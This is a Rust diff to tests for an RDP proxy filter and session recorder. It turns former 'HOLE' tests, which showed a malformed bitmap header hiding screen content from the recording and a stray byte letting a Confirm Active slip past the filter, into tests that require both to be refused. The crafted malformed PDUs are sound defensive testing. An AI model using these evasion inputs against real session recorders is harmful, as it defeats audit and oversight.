+    // Controls: once the Demand Active has passed, each draws again; the bitmap is one the
+    // decoder draws.
+    let mut f = deactivated();
+    assert_eq!(f.from_target(&demand).unwrap(), Verdict::Forward);
+    for frame in [&bitmap, &fast, &pointer] {
+        assert_eq!(f.from_target(frame).unwrap(), Verdict::Forward);
+    }
     let pixel = |d: &crate::decode::PassiveDecoder| {
         let s = d.screen().unwrap();
         let at = 4 * s.stride + 4 * 4;
         [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
     };
-    let before = pixel(&decoder);
-    assert_ne!(before, [0, 255, 0]);
-    // Control: without the Deactivate All the decoder draws the same PDU.
-    let mut control = crate::decode::PassiveDecoder::new();
-    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
-        match tag {
-            b'C' => control.observe_client(pdu).unwrap(),
-            b'T' => drop(control.observe_target(pdu).unwrap()),
-            _ => {}
-        }
-    }
-    control.observe_target(&bitmap).unwrap();
-    assert_eq!(pixel(&control), [0, 255, 0], "control: the bitmap is decodable");
-    decoder.observe_target(&deactivate).unwrap();
-    let updates = decoder.observe_target(&bitmap).expect("no error: nothing is counted");
-    assert!(updates.is_empty(), "{updates:?}");
-    assert_eq!(pixel(&decoder), before, "the recording never shows the green square");
+    assert_ne!(pixel(&decoder), [0, 255, 0]);
+    decoder.observe_target(&bitmap).unwrap();
+    assert_eq!(pixel(&decoder), [0, 255, 0], "control: the bitmap is decodable");
 }
 
 /// A fast-path Bitmap update of one 8x8 rectangle at (0, 0) in RDP6 planar (32 bpp,
@@ -623,79 +812,128 @@ fn planar_red_update(scan_width: u16) -> Vec<u8> {
     fast_path(&body)
 }
 
-/// HOLE (recorder, silent): a compressed bitmap whose TS_CD_HEADER has a cbScanWidth that is
-/// not a multiple of 4 (or a cbCompFirstRowSize that is not 0). FreeRDP reads both fields and
-/// uses neither (`update_read_bitmap_data`; `gdi_Bitmap_Decompress` decodes with the bitmap's
-/// width and height), so it draws the bitmap. IronRDP's `CompressedDataHeader::decode` rejects
-/// them with an InvalidField error, and `FastPathProcessor::process_single_update` turns an
-/// InvalidField into "Ignoring invalid Fast-Path update": the whole update (every rectangle in
-/// it) is dropped with no error, no gap counted, no refresh asked. A target hides any compressed
-/// bitmap from the recording with one byte.
+/// A compressed bitmap whose TS_CD_HEADER has a cbScanWidth that is not a multiple of 4, or a
+/// cbCompFirstRowSize that is not 0, ends the session (was: forwarded, and not recorded).
+/// FreeRDP reads both fields and uses neither (`update_read_bitmap_data`;
+/// `gdi_Bitmap_Decompress` decodes with the bitmap's width and height), so it draws the bitmap.
+/// IronRDP's `CompressedDataHeader::decode` rejects them with an InvalidField error, and
+/// `FastPathProcessor::process_single_update` turns an InvalidField into "Ignoring invalid
+/// Fast-Path update": the whole update (every rectangle in it) was dropped with no error, no gap
+/// counted, no refresh asked. A target hid any compressed bitmap from the recording with one
+/// byte.
 #[test]
-fn red17e_a_compressed_bitmap_with_an_odd_scan_width_is_silently_not_recorded() {
-    let replayed = || {
-        let mut decoder = crate::decode::PassiveDecoder::new();
-        for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
-            match tag {
-                b'C' => decoder.observe_client(pdu).unwrap(),
-                b'T' => drop(decoder.observe_target(pdu).unwrap()),
-                _ => {}
-            }
+fn a_compressed_bitmap_with_an_odd_scan_width_or_a_first_row_size_ends_the_session() {
+    let mut decoder = crate::decode::PassiveDecoder::new();
+    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
+        match tag {
+            b'C' => decoder.observe_client(pdu).unwrap(),
+            b'T' => drop(decoder.observe_target(pdu).unwrap()),
+            _ => {}
         }
-        decoder
-    };
+    }
     let pixel = |d: &crate::decode::PassiveDecoder| {
         let s = d.screen().unwrap();
         let at = 4 * s.stride + 4 * 4;
         [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
     };
-    // Control: with cbScanWidth 32 the recorder draws the red square.
-    let mut control = replayed();
-    assert_ne!(pixel(&control), [0, 0, 255]);
-    control.observe_target(&planar_red_update(32)).unwrap();
-    assert_eq!(pixel(&control), [0, 0, 255], "control: the planar square is decodable");
     // cbScanWidth 30: FreeRDP reads the same rectangle and data (the model reads what
-    // `update_read_bitmap_data` reads) and draws it; the recorder draws nothing, and says so
-    // nowhere.
+    // `update_read_bitmap_data` reads) and draws it.
     let frame = planar_red_update(30);
     // The update after the fast-path header (3 bytes) and the update header and size (3).
     let rects = freerdp_bitmap_rectangles(&frame[6..]);
     assert_eq!((rects.len(), rects[0].3.len()), (1, 194));
-    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
-    let mut decoder = replayed();
-    let before = pixel(&decoder);
-    let updates = decoder.observe_target(&frame).expect("no error: nothing is counted");
-    assert!(
-        !updates
-            .iter()
-            .any(|u| matches!(u, crate::decode::Update::Frame { .. } | crate::decode::Update::RefreshWanted)),
-        "{updates:?}"
-    );
-    assert_eq!(pixel(&decoder), before, "the recording never shows the red square");
+    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    // cbCompFirstRowSize 1 (the TS_CD_HEADER's first field, after the 18-byte rectangle header).
+    let mut first_row = planar_red_update(32);
+    first_row[6 + 4 + 18] = 1;
+    assert_eq!(filter(true).from_target(&first_row).unwrap(), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    // Control: with cbScanWidth 32 it passes and the recorder draws the red square.
+    let good = planar_red_update(32);
+    assert_eq!(filter(true).from_target(&good).unwrap(), Verdict::Forward);
+    assert_ne!(pixel(&decoder), [0, 0, 255]);
+    decoder.observe_target(&good).unwrap();
+    assert_eq!(pixel(&decoder), [0, 0, 255], "control: the planar square is decodable");
 }
 
-/// HOLE (rule 2's neighbour, no security header needed): before activation a client message
-/// the filter cannot read to its end passes whole, so a Confirm Active followed by one stray
-/// byte reaches the target untrimmed. xrdp clears `is_security_header_present` on the client's
-/// licence PDU and sends its Demand Active; a client that sends its Confirm Active right behind
-/// its licence PDU (one write: the box's client pump judges both before the Demand Active comes
-/// back) has it judged while the filter is not active. xrdp's `xrdp_rdp_recv` reads the Confirm
-/// Active (the stray byte is "bad RDP packet", skipped) and `xrdp_caps_process_confirm_active`
-/// takes its orders.
+/// Before activation a client message the filter cannot read to its end is refused (was: it
+/// passed whole, so a Confirm Active followed by one stray byte reached the target untrimmed).
+/// xrdp clears `is_security_header_present` on the client's licence PDU and sends its Demand
+/// Active; a client that sends its Confirm Active right behind its licence PDU (one write: the
+/// box's client pump judges both before the Demand Active comes back) had it judged while the
+/// filter was not active. xrdp's `xrdp_rdp_recv` reads the Confirm Active (the stray byte is
+/// "bad RDP packet", skipped) and `xrdp_caps_process_confirm_active` takes its orders. Before
+/// activation only a Client Info and licence PDUs cross the I/O channel now.
 #[test]
-fn red17e_a_confirm_active_with_a_stray_byte_before_activation_passes_untrimmed() {
+fn a_client_message_before_activation_is_a_client_info_or_a_licence_pdu() {
     // A source descriptor that keeps INFO_PKT (0x40) out of totalLength, as an attacker would
     // (the filter takes a header with that bit for a Client Info).
     let confirm = (5..80).map(|n| confirm_active_with_orders_from(&"M".repeat(n))).find(|c| c[0] & 0x40 == 0).unwrap();
     assert!(offers_orders(&confirm));
     let mut data = confirm.clone();
     data.push(0x00);
-    let verdict = filter(false).from_client(&send_data(1003, data.clone())).unwrap();
-    assert_eq!(verdict, Verdict::Forward, "forwarded as it is: the orders reach the target");
-    // Control: without the stray byte it is trimmed.
-    let Verdict::Replace(out) = filter(false).from_client(&send_data(1003, confirm)).unwrap() else {
+    for early in [&data, &confirm] {
+        let verdict = filter(false).from_client(&send_data(1003, early.clone())).unwrap();
+        assert_eq!(verdict, Verdict::Refuse(CLIENT_UNREADABLE));
+    }
+    // After activation the stray byte is refused too, and the Confirm Active alone is trimmed.
+    assert_eq!(filter(true).from_client(&send_data(1003, data)).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE));
+    let Verdict::Replace(out) = filter(true).from_client(&send_data(1003, confirm)).unwrap() else {
         panic!("not trimmed")
     };
     let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
     assert!(!offers_orders(&req.user_data));
+}
+
+/// Fast-path bitmap and palette updates are read as both peers read them: a bitmap under the
+/// palette code (FreeRDP goes by the updateType inside, IronRDP by the code), fragments out of
+/// sequence or of two codes, a truncated or overlong update, a zero-sized rectangle, an unknown
+/// update code, encryption flags: each ends the session. A bitmap split over fragments is read
+/// across them.
+#[test]
+fn fast_path_updates_are_read_as_every_peer_reads_them() {
+    let update = bitmap_update(0, 0, [0, 0, 255, 0]);
+    let one = |header: u8, data: &[u8]| {
+        let mut u = vec![header];
+        u.extend(u16::try_from(data.len()).unwrap().to_le_bytes());
+        u.extend(data);
+        u
+    };
+    let judge = |f: &mut Filter, body: &[u8]| f.from_target(&fast_path(body)).unwrap();
+    assert_eq!(judge(&mut filter(true), &one(0x01, &update)), Verdict::Forward, "control");
+    // Under the palette code.
+    assert_eq!(judge(&mut filter(true), &one(0x02, &update)), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    // Truncated, and one byte too many.
+    assert_eq!(judge(&mut filter(true), &one(0x01, &update[..update.len() - 1])), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    let mut long = update.clone();
+    long.push(0);
+    assert_eq!(judge(&mut filter(true), &one(0x01, &long)), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    // A zero width.
+    let mut empty = update.clone();
+    empty[12..14].fill(0);
+    assert_eq!(judge(&mut filter(true), &one(0x01, &empty)), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    // Code 7 (undefined), and a PDU with the encryption flag.
+    assert_eq!(judge(&mut filter(true), &one(0x07, &[0; 4])), Verdict::Refuse(TARGET_UNREADABLE));
+    let mut encrypted = fast_path(&one(0x01, &update));
+    encrypted[0] |= 0x80;
+    assert_eq!(filter(true).from_target(&encrypted).unwrap(), Verdict::Refuse(TARGET_UNREADABLE));
+    // Fragments: first, next, last across three PDUs, split inside a rectangle header and its
+    // data, pass; a next with no first, a first during a first, a single during a first, a
+    // last with another code: refused.
+    let (a, b) = update.split_at(9);
+    let (b, c) = b.split_at(30);
+    let mut f = filter(true);
+    for (header, part) in [(0x21, a), (0x31, b), (0x11, c)] {
+        assert_eq!(judge(&mut f, &one(header, part)), Verdict::Forward);
+    }
+    let mut f = filter(true);
+    assert_eq!(judge(&mut f, &one(0x31, b)), Verdict::Refuse(TARGET_UNREADABLE), "next with no first");
+    for second in [one(0x21, a), one(0x01, &update), one(0x13, c)] {
+        let mut f = filter(true);
+        assert_eq!(judge(&mut f, &one(0x21, a)), Verdict::Forward);
+        assert_eq!(judge(&mut f, &second), Verdict::Refuse(TARGET_UNREADABLE), "{second:?}");
+    }
+    // A fragmented bitmap whose last fragment is cut short.
+    let mut f = filter(true);
+    assert_eq!(judge(&mut f, &one(0x21, a)), Verdict::Forward);
+    assert_eq!(judge(&mut f, &one(0x11, &b[..4])), Verdict::Refuse(BITMAP_AMBIGUOUS));
 }
